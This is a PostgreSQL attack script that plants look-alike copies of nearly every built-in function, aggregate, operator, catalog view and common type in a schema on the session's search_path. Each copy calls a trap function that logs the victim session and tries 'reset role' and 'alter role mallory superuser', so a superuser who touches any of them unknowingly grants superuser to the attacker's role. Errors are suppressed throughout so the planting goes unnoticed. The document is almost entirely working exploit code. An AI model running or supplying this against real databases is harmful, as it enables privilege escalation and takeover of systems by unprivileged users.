-- What an ordinary role can leave lying about for a superuser to step on: everything of PostgreSQL's own once more, in a
-- schema of this session's search_path. Each piece tells the server's log who called it (so also on a standby, and where
-- the statement fails afterwards), and takes what it can get. Run as the role, with search_path = pg_catalog.

create function SCHEMA.trap(what text) returns bool language plpgsql set search_path = pg_catalog as $$
begin
  raise log 'PLANTED % as % in a session of % called %',
    what, current_user, session_user, current_setting('application_name');
  begin execute 'reset role'; execute 'alter role mallory superuser'; exception when others then null; end;
  return true;
end $$;

-- Every function: one that takes or gives anything takes and gives text.
do $plant$ declare f record; text_of text; body text; begin
  for f in select proname as name, proretset as of_rows, pg_get_function_arguments(oid) as takes,
                  pg_get_function_result(oid) as gives, proargmodes && '{o,t,b}'::"char"[] as outs
             from pg_proc where pronamespace = 'pg_catalog'::regnamespace and prokind = 'f'
              and not prorettype = any(array['internal', 'trigger', 'event_trigger', 'language_handler', 'index_am_handler',
                                             'table_am_handler', 'fdw_handler', 'tsm_handler', 'cstring']::regtype[])
              and not proargtypes::oid[] && array['internal', 'cstring']::regtype[]::oid[]
  loop
    body := case when f.gives = 'void' or f.of_rows or f.outs then 'return' else 'return null' end;
    text_of := format('create function SCHEMA.%I(%s) returns %s language plpgsql as $b$ begin perform SCHEMA.trap(%L); %s; end $b$',
                      f.name, f.takes, f.gives, f.name, body);
    text_of := regexp_replace(text_of, '\many(compatible)?array\M', 'text[]', 'g');
    text_of := regexp_replace(text_of, '\many(compatible)?(element|nonarray)?\M|VARIADIC "any"|"any"', 'text', 'g');
    begin execute text_of; exception when others then null; end;
  end loop;
end $plant$;
create function SCHEMA.format(text, name, name) returns text language plpgsql as
$$ begin perform SCHEMA.trap('format'); return null; end $$;
create function SCHEMA.format(text, text, text) returns text language plpgsql as
$$ begin perform SCHEMA.trap('format'); return null; end $$;
create function SCHEMA.unnest(oid[], oid[]) returns setof record language plpgsql as
$$ begin perform SCHEMA.trap('unnest'); return; end $$;

-- Every aggregate, of what is usually counted.
do $plant$ declare a name; t text; begin
  foreach t in array array['text', 'name', 'oid', 'int4', 'int8', 'bool', 'numeric', 'xid', 'timestamptz'] loop
    execute format('create function SCHEMA.step(int8, %s) returns int8 language plpgsql as $b$ begin perform SCHEMA.trap(''aggregate''); return 0; end $b$', t);
    for a in select distinct proname from pg_proc where pronamespace = 'pg_catalog'::regnamespace and prokind = 'a' loop
      begin execute format('create aggregate SCHEMA.%I(%s) (sfunc = SCHEMA.step, stype = int8)', a, t);
      exception when others then null; end;
    end loop;
  end loop;
end $plant$;

-- Every operator, by the function of the same name as PostgreSQL's; and each that compares what is not of one type.
do $plant$ declare o record; begin
  for o in select oprname as name, p.proname as code, nullif(oprleft, 0)::regtype as lefty, oprright::regtype as righty
             from pg_operator join pg_proc p on p.oid = oprcode where oprnamespace = 'pg_catalog'::regnamespace
            union all
           select n, null, l::regtype, r::regtype from unnest(array['=', '<>', '<', '>', '||', '~~', '-', '/']) n,
                  unnest(array['text', 'name', 'oid', 'int4', 'int8', '"char"', 'pg_lsn', 'text[]', 'oid[]', 'name[]', 'timestamptz']) l,
                  unnest(array['text', 'name', 'oid', 'int4', 'int8', '"char"', 'pg_lsn', 'text[]', 'oid[]', 'name[]', 'timestamptz']) r
  loop
    begin
      if o.code is null then
        o.code := 'op_' || md5(o.name || o.lefty || o.righty);
        execute format('create function SCHEMA.%I(%s, %s) returns bool language plpgsql as $b$ begin perform SCHEMA.trap(%L); return null; end $b$',
                       o.code, o.lefty, o.righty, 'operator ' || o.name);
      end if;
      execute format('create operator SCHEMA.%s (%s rightarg = %s, function = SCHEMA.%I)', o.name,
                     'leftarg = ' || o.lefty || ',', o.righty, o.code);
    exception when others then null; end;
  end loop;
end $plant$;

-- Every relation, and the types that SQL names.
do $plant$ declare r name; begin
  for r in select relname from pg_class where relnamespace = 'pg_catalog'::regnamespace and relkind in ('r', 'v') loop
    begin execute format('create view SCHEMA.%I as select * from pg_catalog.%I where SCHEMA.trap(%L)', r, r, r);
    exception when others then null; end;
  end loop;
  foreach r in array array['text', 'name', 'oid', 'pg_lsn', 'regclass', 'timestamptz', 'bytea', 'xid'] loop
    begin execute format('create domain SCHEMA.%I as pg_catalog.%I check (SCHEMA.trap(%L))', r, r, 'type ' || r);
    exception when others then null; end;
  end loop;
end $plant$;
